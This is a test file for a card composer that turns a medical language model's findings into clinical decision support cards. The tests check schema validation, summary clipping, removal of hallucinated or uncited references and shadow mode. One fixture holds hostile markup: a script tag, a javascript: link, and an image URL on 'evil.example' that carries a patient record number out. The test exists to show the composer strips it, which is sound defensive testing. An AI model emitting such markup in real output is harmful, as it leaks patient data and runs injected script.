import type { InferenceResultEntity } from '@app/database';
import { MODEL_PROFILES } from '@app/prompts';
import type { CdsServiceDefinition } from '../discovery/service-catalog';
import { composeCards } from './card-composer';

const service: CdsServiceDefinition = {
  id: 'svc',
  hook: 'patient-view',
  title: 't',
  description: 'd',
  enabled: true,
  prefetch: {},
  requiredPrefetch: [],
  mode: 'live',
  allowCritical: false,
  prewarm: [],
};
const profile = MODEL_PROFILES['meditron-70b'];
const refs = { P1: 'Condition/c1' };

function result(outputText: string | null, outcome: InferenceResultEntity['outcome'] = 'ok'): InferenceResultEntity {
  return { requestId: 'r1', outcome, outputText } as InferenceResultEntity;
}

describe('composeCards', () => {
  it.each([
    ['not JSON', '{"findings": [', { result: 'ok', output: 'not_json' }],
    ['the wrong schema', '{"cards": []}', { result: 'ok', output: 'schema_mismatch' }],
  ])('answers no card for %s and says why', (_name, text, detail) => {
    expect(composeCards(result(text), refs, service, profile)).toEqual({ cards: [], detail, suggestions: [] });
  });

  it('clips an over-long summary under 140 characters', () => {
    const out = composeCards(
      result(JSON.stringify({ findings: [{ summary: 'y'.repeat(500), indicator: 'info', evidence: ['P1'] }] })),
      refs,
      service,
      profile,
    );
    expect(out.cards[0]!.summary.length).toBeLessThan(140);
  });

  it('drops hallucinated references and uncited findings, lowers critical, and records all of it', () => {
    const text = JSON.stringify({
      findings: [
        { summary: 'ok', indicator: 'critical', evidence: ['P1'] },
        { summary: 'invented patient', indicator: 'warning', evidence: ['Patient/other'] },
        { summary: 'uncited', indicator: 'info' },
      ],
    });
    const out = composeCards(result(text), refs, service, profile);
    expect(out.cards.map((c) => [c.summary, c.indicator])).toEqual([['ok', 'warning']]);
    expect(out.cards[0]!.source.label).toBe('Meditron-70B (AI-generated)');
    expect(out.detail).toEqual({
      result: 'ok',
      output: 'valid',
      findings: 3,
      dropped: [
        { index: 1, reason: 'unknown_reference' },
        { index: 2, reason: 'no_citation' },
      ],
      downgradedCritical: 1,
    });
  });

  it('cleans model markup out of the card and records what it removed, by kind only', () => {
    const text = JSON.stringify({
      findings: [
        {
          summary: 'K+ low <script>x</script>',
          indicator: 'info',
          detail: 'Replace K+ ![b](https://evil.example/b.gif?mrn=42) [see](javascript:alert(1))',
          evidence: ['P1'],
        },
      ],
    });
    const out = composeCards(result(text), refs, service, profile);
    expect(out.cards[0]!.summary).toBe('K+ low x');
    expect(out.cards[0]!.detail?.startsWith('Replace K\\+  see\n\n')).toBe(true);
    expect(out.detail.removedMarkup).toEqual({ html: 2, image: 1, link_scheme: 1 });
    expect(JSON.stringify(out.detail)).not.toContain('evil.example');
  });

  it('returns no card in shadow mode but records what would have been shown', () => {
    const text = JSON.stringify({ findings: [{ summary: 'ok', indicator: 'info', evidence: ['P1'] }] });
    const out = composeCards(result(text), refs, { ...service, mode: 'shadow' }, profile);
    expect(out).toEqual({
      cards: [],
      detail: expect.objectContaining({ shadow: true, shadowCards: 1 }),
      suggestions: [],
    });
  });

  it('answers no card while the result is pending or failed', () => {
    expect(composeCards(undefined, refs, service, profile).detail).toEqual({ result: 'pending' });
    expect(composeCards(result(null, 'error'), refs, service, profile).detail).toEqual({ result: 'error' });
  });
});
